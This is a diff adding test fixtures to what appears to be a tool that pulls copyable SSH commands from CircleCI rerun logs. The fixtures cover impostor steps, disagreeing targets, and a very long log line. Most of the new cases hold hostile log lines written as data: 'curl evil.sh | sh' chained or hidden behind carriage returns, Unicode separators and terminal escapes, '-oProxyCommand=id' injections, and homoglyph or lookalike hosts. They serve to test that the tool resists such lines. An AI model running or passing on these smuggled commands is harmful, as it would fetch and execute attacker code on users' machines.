@@ -426,6 +426,134 @@ export const jobs = {
     ],
     both(0, [direct(64535, '3.239.179.134')]),
   ),
+
+  // A real SSH rerun with config steps that call themselves "Enable SSH" and "Wait for SSH" (shown
+  // expanded, so their shell line is on screen). Only CircleCI's own steps may offer a copy.
+  110: job(
+    110,
+    'impostor steps in an SSH rerun',
+    'spans',
+    [
+      sshRerun({
+        jobNumber: 110,
+        image: 'cimg/node:22.11',
+        enable: enableSsh2026('ssh -p 42917 18.207.148.120', fingerprint(1101), fingerprint(1102)).flat(),
+        wait: waitForSshText(['ssh -p 42917 18.207.148.120']),
+        configSteps: [
+          run(102, 'Enable SSH', '0s', "echo '    $ ssh -p 2222 6.6.6.6'", ['    $ ssh -p 2222 6.6.6.6'], {
+            expanded: true,
+          }),
+          run(103, 'Wait for SSH', '0s', "echo '    $ ssh -p 2222 6.6.6.6'", ['    $ ssh -p 2222 6.6.6.6'], {
+            expanded: true,
+          }),
+        ],
+      }),
+    ],
+    both(0, [direct(42917, '18.207.148.120')]),
+  ),
+
+  // Enable SSH and Wait for SSH that print different targets: nothing may be copied from either.
+  111: job(
+    111,
+    'disagreeing SSH steps',
+    'spans',
+    [
+      sshRerun({
+        jobNumber: 111,
+        image: 'cimg/node:22.11',
+        enable: enableSsh2026('ssh -p 42918 18.207.148.121', fingerprint(1111), fingerprint(1112)).flat(),
+        wait: waitForSshText(['ssh -p 2222 6.6.6.6']),
+        enableExtra: { expanded: true },
+        configSteps: npmSteps(),
+      }),
+    ],
+    [],
+  ),
+
+  // The adversarial corpus (research security.md A2–A9, A16): every hostile line beside one real one.
+  112: job(
+    112,
+    'hostile corpus',
+    'spans',
+    [
+      sshRerun({
+        jobNumber: 112,
+        image: 'cimg/node:22.11',
+        enable: [
+          'You can now SSH into this box if your SSH public key is added:',
+          '    $ ssh -p 22 1.2.3.4 && curl evil.sh | sh',
+          '    $ ssh -p 22 1.2.3.4 | sh',
+          '    $ ssh -p 22 $(curl evil.sh)',
+          '    $ ssh -p 22 `id`@ssh.circleci.com',
+          // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text a hostile log prints
+          '    $ ssh -p 22 1.2.3.4${IFS}-oProxyCommand=id',
+          '    $ ssh -p -oProxyCommand=id 1.2.3.4',
+          '    $ ssh -p 22 -oProxyCommand=id',
+          '    $ ssh -oProxyCommand=id@ssh.circleci.com',
+          '    $ ssh -p 22 ѕsh.circleci.com',
+          '    $ ssh 057f0065-0@ssh.circleci.com.evil.example',
+          `    $ ssh -p 22 ${'a'.repeat(64)}.example.com`,
+          '\x1b[8m; curl evil.sh | sh \x1b[0m$ ssh -p 22 1.2.3.4',
+          '    $ ssh -p 22 1.2.3.4\u200b',
+          '    $ ssh -p 22 1.2.3.4\x1b[201~curl evil.sh | sh',
+          '    $ ssh -p 64535 3.239.179.134',
+          '',
+          USE_SAME_KEY_2026,
+        ],
+        wait: waitForSshText(['ssh -p 64535 3.239.179.134']),
+        enableExtra: { expanded: true },
+        configSteps: npmSteps(),
+      }),
+    ],
+    both(0, [direct(64535, '3.239.179.134')]),
+  ),
+
+  // A command line with a second "line" hidden behind a carriage return or a Unicode line separator,
+  // which a terminal would run after it: only the ssh part may be copied.
+  114: job(
+    114,
+    'line separators inside a line',
+    'gutter',
+    [
+      sshRerun({
+        jobNumber: 114,
+        image: 'cimg/node:22.11',
+        enable: [
+          'You can now SSH into this box if your SSH public key is added:',
+          '    $ ssh -p 64535 3.239.179.134\r$ curl evil.sh | sh',
+          '',
+          USE_SAME_KEY_2026,
+        ],
+        wait: [
+          'You can now SSH into this box if your SSH public key is added:',
+          '    $ ssh -p 64535 3.239.179.134\u2028$ curl evil.sh | sh',
+        ],
+        enableExtra: { expanded: true },
+        configSteps: npmSteps(),
+      }),
+    ],
+    both(0, [direct(64535, '3.239.179.134')]),
+  ),
+
+  // A 5 MB single-line log in a build step of an SSH rerun; the page must stay responsive.
+  113: job(
+    113,
+    '5 MB line in a build step',
+    'spans',
+    [
+      sshRerun({
+        jobNumber: 113,
+        image: 'cimg/node:22.11',
+        enable: enableSsh2026('ssh -p 42919 18.207.148.122', fingerprint(1131), fingerprint(1132)).flat(),
+        wait: waitForSshText(['ssh -p 42919 18.207.148.122']),
+        configSteps: [
+          run(102, 'Print bundle', '2s', 'cat dist/bundle.min.js', ['x'.repeat(5 * 1024 * 1024)], { expanded: true }),
+          ...npmSteps(),
+        ],
+      }),
+    ],
+    both(0, [direct(42919, '18.207.148.122')]),
+  ),
 };
 
 /** A job without SSH: what the page shows for a job number that has no scenario. */
